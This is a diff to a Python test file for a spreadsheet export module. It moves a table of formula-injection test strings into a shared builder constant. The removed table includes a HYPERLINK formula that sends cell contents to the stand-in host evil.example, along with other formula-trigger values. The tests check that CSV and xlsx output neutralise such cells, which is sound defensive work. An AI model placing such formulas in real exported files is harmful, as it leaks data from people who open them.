@@ -33,6 +33,7 @@ from grassroots.export import (
 )
 from tests.builders import (
     DALAT,
+    HOSTILE_CELL_TEXT,
     SHULINZHAO,
     WANGAIZHAO,
     small_register,
@@ -185,18 +186,9 @@ def test_every_formula_trigger_is_neutralised_in_csv(text: str) -> None:
     assert neutralise(text) == "'" + text
 
 
-HOSTILE = {
-    "equals": '=HYPERLINK("http://evil.example/?"&A1,"核对")',
-    "plus": "+1+1",
-    "minus": "-1+1",
-    "at": "@SUM(1+1)",
-    "tab": "\t=1+1",
-    "carriage-return": "\r=1+1",
-    "error-code": "#N/A",
-}
 
 
-@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+@pytest.mark.parametrize("text", HOSTILE_CELL_TEXT.values(), ids=HOSTILE_CELL_TEXT.keys())
 def test_a_unit_name_like_a_formula_is_text_in_both_writers(tmp_path: Path, text: str) -> None:
     """The unit's and its parent's names, in xlsx (string cells of that very text, quote
     prefixed when they start with a trigger) and CSV (an apostrophe before a trigger); the
